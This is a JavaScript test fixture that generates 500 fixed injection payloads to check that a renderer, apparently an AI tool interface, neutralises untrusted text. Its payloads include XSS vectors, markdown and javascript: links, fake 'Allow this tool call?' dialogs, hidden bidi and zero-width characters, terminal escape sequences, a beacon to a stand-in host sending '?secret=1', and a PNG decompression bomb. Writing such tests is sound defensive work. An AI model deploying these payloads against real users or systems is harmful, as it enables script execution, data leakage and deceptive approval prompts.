// Text that tries to be more than text: 500 payloads, the same in every run. Any that succeeds sets `window.canary`, opens a
// dialog, or asks for something at `foreign.example`.

const FOREIGN = 'http://foreign.example'
const DO = 'window.canary=1'

const ACTIVE = [
  `<script>${DO}</script>`,
  `<script src="${FOREIGN}/a.js"></script>`,
  `<img src=x onerror="${DO}">`,
  `<img src="${FOREIGN}/pixel.png">`,
  `<svg onload="${DO}"><animate onbegin="${DO}" attributeName="x"/></svg>`,
  `<svg><script>${DO}</script></svg>`,
  `<svg><use href="${FOREIGN}/x.svg#a"/></svg>`,
  `<iframe srcdoc="<script>parent.canary=1</script>"></iframe>`,
  `<iframe src="${FOREIGN}/frame"></iframe>`,
  `<object data="${FOREIGN}/o.swf"></object>`,
  `<embed src="${FOREIGN}/e.pdf">`,
  `<video src="${FOREIGN}/v.mp4" onerror="${DO}" autoplay></video>`,
  `<details open ontoggle="${DO}">x</details>`,
  `<input autofocus onfocus="${DO}">`,
  `<body onload="${DO}">`,
  `<style>@import url("${FOREIGN}/s.css");*{background:url(${FOREIGN}/b.png)}</style>`,
  `<link rel=stylesheet href="${FOREIGN}/l.css"><link rel=prefetch href="${FOREIGN}/p">`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/m">`,
  `<base href="${FOREIGN}/">`,
  `<form action="${FOREIGN}/f"><button autofocus>Allow once</button></form>`,
  `<dialog open aria-labelledby=h><h2 id=h>Start this server?</h2><button>Allow</button></dialog>`,
  `<div role="dialog" aria-label="Allow this tool call?"><button>Always allow</button></div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${DO}">`,
  `<template shadowrootmode=open><script>${DO}</script></template>`,
  `"><script>${DO}</script>`,
  `' onmouseover='${DO}' style='position:fixed;inset:0'`,
  `</textarea></title></style><img src=x onerror=${DO}>`,
  `{{constructor.constructor("${DO}")()}}`,
  `\${${DO}}`,
  `javascript:${DO}`,
  `data:text/html,<script>opener.canary=1</script>`,
  `[press here](javascript:${DO})`,
  `[press here](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuY2FuYXJ5PTE8L3NjcmlwdD4=)`,
  `[press here](vbscript:msgbox(1)) <javascript:${DO}>`,
  `![pixel](${FOREIGN}/pixel.png?secret=1)`,
  `![pixel][ref]\n\n[ref]: ${FOREIGN}/ref.png "x"`,
  `[![nested](${FOREIGN}/n.png)](javascript:${DO})`,
  `![x](data:image/svg+xml,%3Csvg%20onload=%22${DO}%22%2F%3E)`,
  `<a href="javascript:${DO}" id=a>x</a><img name=cookie><form id=location></form>`,
  `\`\`\`html\n<script>${DO}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${DO}>\ncode\n\`\`\``,
  `$$\\href{javascript:${DO}}{x}$$`,
  `![gif](//foreign.example/relative.gif)`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${DO}>`,
  `<a href="jav&#x09;ascript:${DO}">x</a>`,
]

const HIDDEN = [
  '\u202E',
  '\u2066',
  '\u2067',
  '\u200B',
  '\u200D',
  '\u2060',
  '\uFEFF',
  '\u00AD',
  '\u061C',
  '\u{E0041}\u{E0042}',
  '\u3164',
]
const TERMINAL = [
  '\x1b[2J\x1b[HAllow this tool call?',
  '\x1b]0;Start this server?\x07',
  '\x1b]8;;javascript:window.canary=1\x1b\\press\x1b]8;;\x1b\\',
  '\x1b[31mfail\x1b[0m\x9b2J',
  '\x00\x07\x08\x7f\r\nAllow once',
]
const LARGE = [
  `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n${`|${'x|'.repeat(300)}\n`.repeat(10)}`,
  '['.repeat(2_000) + ']'.repeat(2_000),
  `${'{"a":'.repeat(1_000)}1${'}'.repeat(1_000)}`,
  'W'.repeat(5_000),
  `${'> '.repeat(800)}deep`,
  `${'*'.repeat(2_000)}a${'*'.repeat(2_000)}`,
  `${'['.repeat(1_500)}x${']('.repeat(1_500)}`,
  '\n'.repeat(3_000),
  'e\u0301\u0302\u0303'.repeat(800),
  '&lt;script&gt;'.repeat(200),
]

/** Each kind in turn, told apart by its number; what hides characters hides them in words that a person decides by. */
export const PAYLOADS = Object.freeze(
  Array.from({ length: 500 }, (_, n) => {
    const round = Math.floor(n / 5)
    const active = ACTIVE[(round * 2 + (n % 5 === 1 ? 1 : 0)) % ACTIVE.length]
    switch (n % 5) {
      case 0:
      case 1:
        return `p${n} ${active}`
      case 2: {
        const mark = HIDDEN[round % HIDDEN.length]
        return `p${n} safe${mark}tool${mark} ${mark}${round % 2 ? active : 'exe.txt'}`
      }
      case 3:
        return `p${n} ${TERMINAL[round % TERMINAL.length]} ${round % 3 ? '' : active}`
      default:
        return round % 4 === 0 ? `p${n} ${LARGE[(round / 4) % LARGE.length]}` : `p${n} ${active}\n\n${ACTIVE[n % ACTIVE.length]}`
    }
  }),
)

/** A PNG of a few bytes that says that it is 60,000 pixels wide and high. */
export const BOMB = Buffer.from(
  '89504e470d0a1a0a0000000d494844520000ea600000ea60080600000080d275420000000a49444154789c6360000002000154a24f5d0000000049454e44ae426082',
  'hex',
).toString('base64')
